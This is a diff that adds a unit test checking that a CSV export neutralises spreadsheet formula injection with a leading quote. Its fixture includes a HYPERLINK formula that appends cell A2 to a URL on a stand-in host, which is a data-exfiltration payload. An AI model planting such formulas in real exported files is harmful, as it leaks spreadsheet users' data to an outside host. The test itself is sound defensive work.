@@ -599,6 +599,25 @@ describe('the results table and exports', () => {
     expect(csv).not.toContain('Income');
   });
 
+  it('exports text that a spreadsheet would run as a formula with a leading quote, numbers as numbers', () => {
+    // A model bundle's wording is its author's: a label or a reason may start as a formula does.
+    const [job, masked] = fakeDoc(2, 0.7).attributions;
+    const doc = fakeDoc(2, 0.7, {
+      attributions: [{ ...job!, label: '=HYPERLINK("http://x.example/?"&A2,"Job")' }, masked!],
+      reasons: [{ feature: 'Job', attribution: -0.2, description: '@SUM(1+1)\nmore' }],
+      rest_sum: -0.25,
+    });
+    const csv = resultsCsv(resultRows([{ line: 2, ok: true, doc }]));
+    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
+    expect(parsed.data[0]!.top_attributions).toBe(
+      `'=HYPERLINK("http://x.example/?"&A2,"Job"): 0.2000; sensitive_abc: -0.9000`,
+    );
+    expect(parsed.data[0]!.reasons).toBe(`'@SUM(1+1)\nmore`);
+    expect(csv).toContain(',-0.25,');
+    for (const start of ['+', '-', '\t', '\r'])
+      expect(problemsCsv([{ line: 3, field: 'Debt', message: `${start}1` }])).toContain(`,"'${start}1"`);
+  });
+
   it('exports the signed documents unchanged, one per line', () => {
     const lines = resultsJsonl(rows).trim().split('\n');
     expect(lines).toHaveLength(3);
